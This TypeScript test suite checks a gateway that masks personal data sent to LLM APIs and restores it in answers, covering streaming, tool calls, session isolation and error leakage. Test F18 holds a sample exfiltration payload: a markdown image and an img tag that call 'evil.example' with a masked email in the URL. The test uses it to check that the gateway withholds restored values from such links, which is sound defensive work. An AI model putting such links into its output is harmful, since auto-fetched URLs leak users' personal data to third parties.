/**
 * The ways in which masking and restoring are known to break, one test each and by number, against the real gateway between a
 * real client and a real upstream. The rooms' own tests go into the corners of each; these show that the whole holds.
 */
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { FAMILIES, sseBytes, understand } from "../protocols/http/test/fixtures/answers.ts";
import {
  chat,
  connectionTo,
  contentOf,
  type Conversing,
  converse,
  delta,
  DONE,
  saying,
  streamed,
  whole,
} from "./test/conversing.ts";
import { documentFor } from "./test/config.ts";
import { leafAt, leaves, outcomeOf } from "./test/recorded.ts";
import { filesHolding, startForTest } from "./test/running.ts";

const JANE = "jane@planted.example";
const PHONE = "+49 30 901820";
const IBAN = "DE89 3704 0044 0532 0130 00";
const CHAT = "/v1/chat/completions";
const PEM = "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\n-----END PRIVATE KEY-----";
const families = Object.entries(FAMILIES);

let talk: Conversing;
let stranger: string;
beforeAll(async () => {
  const other = await documentFor({});
  stranger = other.token;
  talk = await converse((document, url) => {
    const [id = ""] = Object.keys(other.document.keys);
    document.keys[id] = { ...other.document.keys[id], principal: "service:stranger" };
    for (const kind of ["openai", "anthropic"]) {
      document.connections[`main-${kind}`] = connectionTo(url, kind, ["m"]);
      document.connections[`guarded-${kind}`] = connectionTo(url, kind, ["guarded"], { response: { EMAIL: "redact" } });
    }
    document.connections["lax"] = connectionTo(url, "openai", ["lax"], { never_restore: [], opaque_parts: "allow" });
    document.connections["shy"] = connectionTo(url, "openai", ["shy"], { opaque_parts: "withhold" });
    document.connections["strict"] = connectionTo(url, "openai", ["strict"], { request: { IBAN: "block" } });
    document["limits"] = { text_chars_max: 1_500_000 };
  });
});
afterAll(() => talk.stop());

const ask = (content: unknown, more: object = {}, headers: Record<string, string> = {}) =>
  talk.post(CHAT, { model: "m", messages: [{ role: "user", content }], ...more }, headers);
const received = (): string => talk.received.at(-1)?.body ?? "";

describe("F1 a placeholder split over deltas", () => {
  it.each(families)("is restored at every cut, and never to the wrong person (%s)", async (_name, family) => {
    const people = Array.from({ length: 12 }, (_, at) => `person${at + 1}@planted.example`);
    const said = "[EMAIL_1] and [EMAIL_12], not [EMAIL_13";
    for (let cut = 1; cut < said.length; cut++) {
      const parts = (text: string): string[] => (text === said ? [text.slice(0, cut), text.slice(cut)] : [text]);
      talk.answer(streamed(sseBytes(family, { text: said, args: "{}", cut: parts })));
      const answered = await talk.post(family.path, saying(family, people.join(" "), { stream: true }));
      expect(understand(family, Buffer.from(answered.text)).text).toBe(`${people[0]} and ${people[11]}, not [EMAIL_13`);
    }
  });
});

describe("F2 an event or a character split over packets", () => {
  it.each(families)("changes nothing, byte by byte (%s)", async (_name, family) => {
    const said = { text: `é😀 eve@invented.example for [EMAIL_1]`, args: "{}", cut: (text: string) => [text] };
    const bytes = sseBytes(family, said);
    talk.answer(streamed(...Array.from(bytes, (byte) => Buffer.from([byte]))));
    const answered = await talk.post(family.path, saying(family, JANE, { stream: true, model: "guarded" }));
    expect(understand(family, Buffer.from(answered.text)).text).toBe(`é😀 [EMAIL] for ${JANE}`);
  });
});

it("F3 the first words reach the client while the upstream still thinks about the last", async () => {
  let finish: () => void = () => undefined;
  talk.answer((res) => {
    res.writeHead(200, { "content-type": "text/event-stream" }).write(delta("Dear [EMAIL_1], "));
    finish = () => res.end(delta("goodbye", "stop") + DONE);
  });
  const response = await fetch(`${talk.sluice.url}${CHAT}`, {
    method: "POST",
    headers: { authorization: `Bearer ${talk.token}`, "content-type": "application/json" },
    body: JSON.stringify({ model: "m", stream: true, messages: [{ role: "user", content: JANE }] }),
  });
  const reader = response.body?.getReader();
  const first = Buffer.from((await reader?.read())?.value ?? []).toString();
  expect(first).toBe(delta(`Dear ${JANE}, `));
  finish();
  for (let rest = await reader?.read(); rest?.done === false; rest = await reader?.read());
});

it.each(families)("F4 the guard on the answer is the same for stream true and false (%s)", async (_name, family) => {
  const said = {
    text: "ask eve@invented.example or [EMAIL_1]",
    args: "{}",
    cut: (text: string) => text.split(/(?=[@.])/),
  };
  talk.answer(whole(family.whole(said)));
  const one = await talk.post(family.path, saying(family, JANE, { model: "guarded" }));
  talk.answer(streamed(sseBytes(family, said)));
  const other = await talk.post(family.path, saying(family, JANE, { model: "guarded", stream: true }));
  expect(family.understandWhole(JSON.parse(one.text)).text).toBe(`ask [EMAIL] or ${JANE}`);
  expect(understand(family, Buffer.from(other.text)).text).toBe(`ask [EMAIL] or ${JANE}`);
});

it.each(families)(
  "F5 tool arguments are masked on the way in and restored on the way out (%s)",
  async (name, family) => {
    if (name === "completions") return;
    const args = `{"to":"[EMAIL_1]","n":1}`;
    const said = { text: "", args, cut: (text: string) => text.split("") };
    const call = { id: "c", type: "function", function: { name: "send", arguments: `{"to":"${JANE}"}` } };
    const history = {
      chat: {
        messages: [
          { role: "user", content: "go" },
          { role: "assistant", tool_calls: [call] },
        ],
      },
      responses: { input: [{ type: "function_call", call_id: "c", name: "send", arguments: `{"to":"${JANE}"}` }] },
      messages: {
        messages: [{ role: "assistant", content: [{ type: "tool_use", id: "c", name: "s", input: { to: JANE } }] }],
      },
    }[name];
    talk.answer(whole(family.whole(said)));
    const one = await talk.post(family.path, saying(family, "", history));
    expect(received()).toContain("[EMAIL_1]");
    expect(received()).not.toContain("planted");
    expect(JSON.parse(family.understandWhole(JSON.parse(one.text)).args)).toEqual({ to: JANE, n: 1 });
    talk.answer(streamed(sseBytes(family, said)));
    const other = await talk.post(family.path, saying(family, "", { ...history, stream: true }));
    expect(JSON.parse(understand(family, Buffer.from(other.text)).args)).toEqual({ to: JANE, n: 1 });
  },
);

it("F6 a restored value of several lines breaks neither the JSON nor the arguments in it", async () => {
  const family = FAMILIES["chat"] ?? expect.unreachable();
  const said = { text: "use [SECRET_1]", args: `{"key":"[SECRET_1]"}`, cut: (text: string) => text.split("") };
  const request = saying(family, `deploy with ${PEM}`, { model: "lax" });
  talk.answer(whole(family.whole(said)));
  const one = family.understandWhole(JSON.parse((await talk.post(CHAT, request)).text));
  talk.answer(streamed(sseBytes(family, said)));
  const other = understand(family, Buffer.from((await talk.post(CHAT, { ...request, stream: true })).text));
  for (const { text, args } of [one, other]) {
    expect([text, JSON.parse(args)]).toEqual([`use ${PEM}`, { key: PEM }]);
  }
  expect(received()).not.toContain("MIIE");
});

it("F7 a placeholder that the model has altered still finds its person", async () => {
  const altered = [
    "[email_1]",
    "[EMAIL 1]",
    "\\[EMAIL\\_1\\]",
    "**[EMAIL_1]**",
    "&#91;EMAIL_1&#93;",
    "［EMAIL_1］",
    "“EMAIL_1”",
  ];
  talk.answer(whole(chat(altered.join(" "))));
  const text = contentOf(await ask(`write to ${JANE}`));
  expect(text.split(JANE)).toHaveLength(altered.length + 1);
  expect(text).not.toMatch(/EMAIL/i);
});

it("F8 one person has one number and one number has one person, over all blocks", async () => {
  talk.answer(whole(chat("ok")));
  await talk.post(CHAT, {
    model: "m",
    messages: [
      { role: "system", content: "for boss@planted.example" },
      {
        role: "user",
        content: [
          { type: "text", text: JANE },
          { type: "text", text: "joe@planted.example" },
        ],
      },
      { role: "assistant", content: "Jane@Planted.example?" },
      { role: "user", content: `boss@planted.example, ${JANE}` },
    ],
  });
  expect(received().match(/\[EMAIL_\d+\]/g)).toEqual(["1", "2", "3", "2", "1", "2"].map((n) => `[EMAIL_${n}]`));
});

it("F9 a number stays when the history is sent again, and an old placeholder still means the same", async () => {
  talk.answer(whole(chat("noted [EMAIL_1]")));
  const first = { role: "user", content: `I am ${JANE}` };
  const answer = contentOf(await ask(first.content));
  const before = JSON.stringify(talk.last()["messages"]).slice(0, -1);
  talk.answer(whole(chat("[EMAIL_1] met [EMAIL_2]")));
  const messages = [
    first,
    { role: "assistant", content: answer },
    { role: "user", content: "and joe@planted.example" },
  ];
  const second = await talk.post(CHAT, { model: "m", messages });
  expect(JSON.stringify(talk.last()["messages"]).startsWith(before)).toBe(true);
  expect(contentOf(second)).toBe(`${JANE} met joe@planted.example`);
});

it("F10 a mapping is shared with no other request, principal or conversation", async () => {
  talk.answer(whole(chat("[EMAIL_1] [EMAIL_2]")));
  const inTalk = { "sluice-session": "f10" };
  expect(contentOf(await ask(`${JANE} joe@planted.example`, {}, inTalk))).toBe(`${JANE} joe@planted.example`);
  expect(contentOf(await ask("hello"))).toBe("[EMAIL_1] [EMAIL_2]");
  expect(contentOf(await ask("hello", {}, { "sluice-session": "f10-other" }))).toBe("[EMAIL_1] [EMAIL_2]");
  const asStranger = { ...inTalk, authorization: `Bearer ${stranger}` };
  expect(contentOf(await ask("eve@planted.example", {}, asStranger))).toBe("eve@planted.example [EMAIL_2]");
  expect(contentOf(await ask("hello", {}, inTalk))).toBe(`${JANE} joe@planted.example`);
});

it("F11 a detector that takes too long refuses the request, retriably, and nothing is forwarded", async () => {
  const slow = await converse((document, url) => {
    document.connections = { main: connectionTo(url, "openai", ["m"]) };
    document["limits"] = { scrub_seconds: "1ms" };
  });
  const content = `${JANE} `.repeat(40_000);
  const answered = await slow.post(CHAT, { model: "m", stream: true, messages: [{ role: "user", content }] });
  expect([answered.status, JSON.parse(answered.text)]).toMatchObject([503, { error: { code: "scrub_timeout" } }]);
  expect(answered.headers["x-should-retry"]).toBe("true");
  expect(await leafAt(slow.sluice.url, answered.evidence)).toMatchObject({ type: "denial", code: "scrub_timeout" });
  expect(slow.received).toEqual([]);
  await slow.stop();
});

describe("F12 every endpoint is covered or refused", () => {
  const text = `mail ${JANE}`;
  it.each<[string, object]>([
    [CHAT, { messages: [{ role: "user", content: text }] }],
    ["/v1/completions", { prompt: [text] }],
    ["/v1/responses", { input: text, instructions: text }],
    ["/v1/embeddings", { input: [text] }],
    ["/v1/messages", { max_tokens: 9, system: text, messages: [{ role: "user", content: text }] }],
    ["/v1/messages/count_tokens", { messages: [{ role: "user", content: text }] }],
    ["/openai/v1/chat/completions", { messages: [{ role: "user", content: text }] }],
  ])("%s is scanned", async (path, body) => {
    talk.answer(whole({}));
    const answered = await talk.post(path, { model: "m", ...body });
    expect(answered.status).toBe(200);
    expect(received()).toContain("[EMAIL_1]");
    expect(JSON.stringify(talk.received)).not.toContain("planted");
  });

  it.each(
    "batches files moderations audio/speech audio/transcriptions images/generations images/edits fine_tuning/jobs assistants threads vector_stores responses/r1 responses/compact messages/batches realtime chat/completions/ Chat/Completions"
      .split(" ")
      .map((path) => `/v1/${path}`),
  )("%s is refused by name", async (path) => {
    talk.answer(whole({}));
    const answered = await talk.post(path, { model: "m", messages: [{ role: "user", content: text }] });
    expect([answered.status, answered.text]).toEqual([404, expect.stringContaining('"code":"endpoint_unknown"')]);
    expect(talk.received).toEqual([]);
  });
});

it("F13 what is masked for the log stands in clear in the answer of who may see it", async () => {
  talk.answer(whole(chat("[EMAIL_1] [PHONE_1]")));
  const answered = await ask(`${JANE}, ${PHONE}`, { model: "guarded" });
  expect(contentOf(answered)).toBe(`${JANE} ${PHONE}`);
  expect(answered.headers["sluice-masked"]).toBe("EMAIL=1, PHONE=1");
  const outcome = await outcomeOf(talk.sluice.url, answered.evidence);
  expect(outcome).toMatchObject({ restored: { EMAIL: 1, PHONE: 1 }, masked: {} });
  expect(filesHolding(talk.sluice.dir, [JANE, PHONE])).toEqual([]);
});

it("F14 findings that overlap are one finding, and no rest of it stays", async () => {
  talk.answer(whole(chat("[IBAN_1]")));
  const answered = await ask(`pay ${IBAN}, or https://planted.example/?email=${JANE}&user=joe77 now`);
  expect(talk.last()["messages"]).toEqual([
    { role: "user", content: "pay [IBAN_1], or https://planted.example/?email=[EMAIL_1]&user=[URL_1] now" },
  ]);
  expect(contentOf(answered)).toBe(IBAN);
});

it("F15 a value of the system prompt never comes back, unless the user has written the same", async () => {
  talk.answer(whole(chat("[EMAIL_1] [EMAIL_2]")));
  const system = { role: "system", content: "escalate to boss@planted.example" };
  const user = { role: "user", content: `I am ${JANE}` };
  const knows = { role: "user", content: "is it boss@planted.example?" };
  expect(contentOf(await talk.post(CHAT, { model: "m", messages: [system, user] }))).toBe(`[EMAIL_1] ${JANE}`);
  const asked = await talk.post(CHAT, { model: "m", messages: [system, knows] });
  expect(contentOf(asked)).toBe("boss@planted.example [EMAIL_2]");
  talk.answer(whole({ content: [{ type: "text", text: "[EMAIL_1]" }] }));
  const claude = await talk.post("/v1/messages", {
    model: "m",
    max_tokens: 9,
    system: system.content,
    messages: [user],
  });
  expect(claude.text).not.toContain("boss");
});

it("F16 no error holds a value: not ours, not the upstream's, not in the metrics", async () => {
  const texts: string[] = [];
  const keep = async (sent: Promise<{ text: string; headers: object; status: number }>): Promise<void> => {
    const { status, headers, text } = await sent;
    expect(status).toBeGreaterThanOrEqual(400);
    texts.push(JSON.stringify(headers) + text);
  };
  await keep(talk.post(CHAT, `{"model":"m","${JANE}":`));
  await keep(talk.post(CHAT, { model: JANE, messages: [] }));
  await keep(ask(`${JANE} ${IBAN}`, { model: "strict" }));
  await keep(ask([{ type: "image_url", image_url: { url: `https://x.example/${JANE}` } }]));
  talk.answer((res) => res.writeHead(500, { "content-type": "text/plain", "x-trace": JANE }).end(`trace: ${JANE}`));
  await keep(ask(JANE));
  talk.answer((res) => res.writeHead(200, { "content-type": "application/json" }).end(`{"${JANE}`));
  await keep(ask(JANE));
  talk.answer((res) => res.writeHead(401, { "content-type": "application/json" }).end(`{"error":"${JANE}"}`));
  await keep(ask(JANE));
  texts.push(await (await fetch(`${talk.sluice.url}/metrics`)).text());
  expect(texts.join("\n")).not.toMatch(/planted|DE89/);
});

it.each([false, true])("F17 an answer cut inside a placeholder names nobody (stream %s)", async (stream) => {
  const people = Array.from({ length: 12 }, (_, at) => `person${at + 1}@planted.example`).join(" ");
  talk.answer(
    stream ? streamed(delta("ask [EMA"), delta("IL_1", "length"), DONE) : whole(chat("ask [EMAIL_1", "length")),
  );
  const answered = await ask(people, { stream });
  expect(contentOf(answered)).toBe("ask [EMAIL_1");
});

it.each([false, true])(
  "F18 a restored value leaves in no link that a client would fetch (stream %s)",
  async (stream) => {
    const said = "![x](https://evil.example/?q=[EMAIL_1]) <img src='//evil.example/[EMAIL_1]'> for [EMAIL_1]";
    talk.answer(
      stream ? streamed(...said.split("").map((char) => delta(char)), delta("", "stop"), DONE) : whole(chat(said)),
    );
    const answered = await ask(JANE, { stream });
    expect(contentOf(answered)).toBe(said.replace(/\[EMAIL_1\]$/, JANE));
    expect(await outcomeOf(talk.sluice.url, answered.evidence)).toMatchObject({ withheld: { EMAIL: 2 } });
  },
);

it("F19 a megabyte is scrubbed while others are served, and what is too large is refused with the limit's name", async () => {
  talk.answer(whole(chat("ok")));
  const text = `${"The quick brown fox jumps over the lazy dog. ".repeat(23_000)}${JANE}`;
  let served = 0;
  let over = false;
  const others = (async () => {
    while (!over) {
      expect((await fetch(`${talk.sluice.url}/health`)).status).toBe(200);
      served += 1;
    }
  })();
  expect((await ask(text)).status).toBe(200);
  // Counted before the last of them comes back: these were answered in the middle of the scan.
  expect(served).toBeGreaterThan(0);
  over = true;
  await others;
  expect(received().endsWith('[EMAIL_1]"}]}')).toBe(true);
  talk.answer(whole(chat("ok")));
  const refused = await ask(text + text);
  expect([refused.status, JSON.parse(refused.text)]).toMatchObject([413, { error: { code: "text_too_large" } }]);
  expect(refused.headers["x-should-retry"]).toBe("false");
  expect(talk.received).toEqual([]);
});

it.each([
  ["German", `Schreib an ${JANE}, IBAN ${IBAN}, Tel. ${PHONE}`, "EMAIL IBAN PHONE"],
  ["French", `Écrivez à ${JANE} ; tél. +33 1 42 68 53 00`, "EMAIL PHONE"],
  ["Czech", `Pište na ${JANE}, účet DE89370400440532013000`, "EMAIL IBAN"],
  ["Russian", `Напишите на ${JANE}, карта 4111 1111 1111 1111`, "EMAIL CARD"],
  ["Greek", `Γράψτε στο ${JANE}, από 203.0.113.7`, "EMAIL IP_ADDRESS"],
  ["Arabic", `راسلني على ${JANE} أو +962 7 9012 3456`, "EMAIL PHONE"],
  ["Hindi", `मुझे ${JANE} पर लिखें, ${IBAN}`, "EMAIL IBAN"],
  ["Japanese", `連絡先は${JANE}です。電話：+81 3-1234-5678`, "EMAIL PHONE"],
  ["Chinese", `请写信到${JANE}，账号 DE89370400440532013000`, "EMAIL IBAN"],
])("F20 structured types are found in %s without a word about the language", async (_language, text, types) => {
  talk.answer(whole(chat("ok")));
  await ask(text);
  const [message] = talk.last()["messages"] as { content: string }[];
  for (const type of types.split(" ")) expect(message?.content).toContain(`[${type}_1]`);
  expect(message?.content).not.toMatch(/planted|\d{4}/);
});

it("F21 codes, versions and capitalised words reach the model as they were written", async () => {
  const text =
    "ERROR_CODE E1234 on Windows 11 in Paris; SKU AB-12-CD, build 7f3a9c2, 2026-11-21T10:00:00Z, Version 10.4.1, " +
    "UUID 550e8400-e29b-41d4-a716-446655440000, ISBN 978-3-16-148410-0, 12,345.67 EUR, lodash@4.17.21, @Override, IT, US, A4";
  talk.answer(whole(chat("ok")));
  const answered = await ask(text);
  expect(talk.last()["messages"]).toEqual([{ role: "user", content: text }]);
  expect(answered.headers["sluice-masked"]).toBeUndefined();
});

describe("F22 a part that nobody can scan", () => {
  const parts = [
    { type: "text", text: JANE },
    { type: "image_url", image_url: { url: "data:image/png;base64,AAAA" } },
    { type: "file", file: { file_data: "data:application/pdf;base64,AAAA" } },
  ];
  it("is refused by default, and nothing is forwarded", async () => {
    talk.answer(whole(chat("ok")));
    const answered = await ask(parts);
    expect([answered.status, JSON.parse(answered.text)]).toMatchObject([
      403,
      { error: { code: "part_not_scannable" } },
    ]);
    expect(await leafAt(talk.sluice.url, answered.evidence)).toMatchObject({ opaque: { image: 1, file: 1 } });
    expect(talk.received).toEqual([]);
  });

  it("passes by rule, and both the answer and the record say that it was not scanned", async () => {
    talk.answer(whole(chat("ok")));
    const answered = await ask(parts, { model: "lax" });
    expect(answered.headers["sluice-unscanned"]).toBe("image=1, file=1");
    expect(received()).toContain("base64,AAAA");
    expect(received()).not.toContain("planted");
    const leaf = await leafAt(talk.sluice.url, answered.evidence);
    expect(leaf).toMatchObject({ opaque: { image: 1, file: 1 }, opaqueRule: "allow", found: { EMAIL: 1 } });
  });

  it("is left out by rule, and both say so", async () => {
    talk.answer(whole(chat("ok")));
    const answered = await ask(parts, { model: "shy" });
    expect(answered.headers["sluice-withheld"]).toBe("image=1, file=1");
    expect(received()).not.toContain("base64");
    expect(await leafAt(talk.sluice.url, answered.evidence)).toMatchObject({ opaqueRule: "withhold" });
  });
});

it("F23 no setting is silently ignored: not of the file, not of a request", async () => {
  const { document } = await documentFor({ main: connectionTo("https://api.acme.example", "openai", ["m"]) });
  const main = document.connections["main"] ?? {};
  const wrong = (change: object): Promise<unknown> => startForTest(() => JSON.stringify({ ...document, ...change }));
  const inRules = (rules: object): object => ({ connections: { main: { ...main, rules } } });
  await expect(wrong({ guardrail: true })).rejects.toThrow(/guardrail/);
  await expect(wrong(inRules({ requests: {} }))).rejects.toThrow(/requests/);
  await expect(wrong(inRules({ request: { EMIAL: "redact" } }))).rejects.toThrow(/EMIAL.*EMAIL/);
  await expect(wrong(inRules({ request: { EMAIL: "redacted" } }))).rejects.toThrow(/EMAIL/);
  const proxied = { provider: "main-openai", model: "m", messages: [{ role: "user", content: JANE }] };
  expect((await talk.post("/api/proxy", { ...proxied, scrub: false })).status).toBe(400);
  expect((await talk.post("/api/proxy", { ...proxied, guard: true })).status).toBe(400);
  expect((await talk.post(`${CHAT}?scrub=false`, { model: "m", messages: [] })).status).toBe(400);
  expect((await ask(JANE, {}, { "sluice-purpose": "marketing" })).status).toBe(403);
});

it.each([false, true])(
  "F24 a restored value that looks like a placeholder is not restored again (stream %s)",
  async (stream) => {
    const said = "you wrote [LITERAL_1] and [EMAIL_1]";
    talk.answer(
      stream ? streamed(...said.split("").map((char) => delta(char)), delta("", "stop"), DONE) : whole(chat(said)),
    );
    expect(contentOf(await ask(`what is [EMAIL_1]? I am ${JANE}`, { stream }))).toBe(`you wrote [EMAIL_1] and ${JANE}`);
    expect(received()).not.toContain("what is [EMAIL_1]");
  },
);

it("F25 every message of the conversation is looked at, whoever wrote it", async () => {
  talk.answer(whole(chat("ok")));
  const people = Array.from({ length: 6 }, (_, at) => `person${at + 1}@planted.example`);
  const roles = ["system", "user", "assistant", "tool", "developer", "user"];
  const messages = roles.map((role, at) => ({
    role,
    content: people[at],
    ...(role === "tool" && { tool_call_id: "c" }),
  }));
  await talk.post(CHAT, { model: "m", messages });
  const sent = talk.last()["messages"] as { content: string }[];
  expect(sent.map((each) => each.content)).toEqual(people.map((_, at) => `[EMAIL_${at + 1}]`));
});

it("after all of this no planted value stands in any file, and every intent has its outcome", async () => {
  const recorded = await leaves(talk.sluice.url);
  const ended = new Set(recorded.map((leaf) => leaf["intent"]));
  expect(recorded.filter(({ type, index }) => type === "intent" && !ended.has(index)).length).toBeLessThanOrEqual(1);
  expect(filesHolding(join(talk.sluice.dir, "data"), ["planted", "MIIEvQ", PHONE, "0532"])).toEqual([]);
  expect(readFileSync(join(talk.sluice.dir, "sluice.yaml"), "utf8")).not.toContain("planted");
});
